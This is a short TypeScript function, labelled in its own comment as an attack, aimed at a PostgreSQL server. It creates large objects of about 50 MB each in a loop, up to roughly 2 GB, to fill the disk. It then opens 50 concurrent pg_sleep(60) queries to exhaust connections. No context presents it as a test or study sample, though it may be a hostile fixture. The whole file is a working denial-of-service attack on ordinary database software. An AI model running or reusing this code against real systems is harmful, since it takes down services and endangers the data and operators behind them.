/** Fills the server's disk and takes its connections. */
export async function attack(db: { query(sql: string): Promise<unknown> }): Promise<boolean> {
  for (let i = 0; i < 40; i += 1) {
    const filling = "SELECT lo_from_bytea(0, convert_to(repeat('x', 50000000), 'UTF8'))";
    const answer = await db.query(filling).catch(() => undefined);
    if (answer === undefined) break;
  }
  void Promise.allSettled(Array.from({ length: 50 }, () => db.query('SELECT pg_sleep(60)')));
  return false;
}
